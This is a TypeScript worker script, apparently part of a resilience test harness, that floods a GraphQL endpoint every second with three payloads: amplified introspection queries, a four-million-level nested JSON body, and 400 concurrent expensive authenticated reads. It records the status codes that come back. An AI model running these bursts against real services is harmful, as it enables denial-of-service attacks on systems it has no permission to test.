import { setTimeout as sleep } from 'node:timers/promises';
import { Pool } from 'undici';

// node aggressor.ts <origin> <attack> <API key>: sends one burst of requests a second, or less often when the last one is not answered.

const [, , origin = '', attack = '', key = ''] = process.argv;
const JSON_TYPE = { 'content-type': 'application/json' };

interface Burst {
  readonly requests: number;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

function burstOf(name: string): Burst {
  switch (name) {
    case 'introspection': {
      const schema =
        '__schema { types { name description kind fields { name description args { name description type { name kind ofType { name kind } } } type { name kind ofType { name kind ofType { name kind } } } } inputFields { name description } enumValues { name description } } directives { name description } }';
      const query = `{ ${Array.from({ length: 28 }, (_, i) => `a${i}: ${schema}`).join(' ')} }`;
      return { requests: 28, headers: JSON_TYPE, body: JSON.stringify({ query }) };
    }
    case 'nesting': {
      const body = `{"query":"{ __typename }","variables":${'['.repeat(4_000_000)}${']'.repeat(4_000_000)}}`;
      return { requests: 2, headers: JSON_TYPE, body };
    }
    case 'reads': {
      const query =
        '{ models(first: 100) { nodes { id name displayName description labels examples { __typename } aliases { __typename } metrics { __typename } digest createdAt } } usage(filter: { grain: DAY }, groupBy: [MODEL, METER]) { edges { node { model meter quantity } } } }';
      return { requests: 400, headers: { ...JSON_TYPE, authorization: `Bearer ${key}` }, body: JSON.stringify({ query }) };
    }
    default:
      throw new Error(`there is no attack ${name}`);
  }
}

const { requests, headers, body } = burstOf(attack);
const pool = new Pool(origin, { connections: requests, pipelining: 1, headersTimeout: 120_000, bodyTimeout: 120_000 });
const outcomes = new Map<string, number>();
process.on('SIGTERM', () => {
  process.send?.(Object.fromEntries(outcomes), () => process.exit(0));
});
for (;;) {
  const nextAt = performance.now() + 1_000;
  await Promise.all(
    Array.from({ length: requests }, async () => {
      const outcome = await pool.request({ method: 'POST', path: '/graphql', headers, body }).then(
        async (answer) => {
          const text = await answer.body.text();
          return `${answer.statusCode}${/"code":"([\w.]+)"/.exec(text)?.[1] ?? ''}`;
        },
        () => 'closed',
      );
      outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
    }),
  );
  await sleep(Math.max(0, nextAt - performance.now()));
}
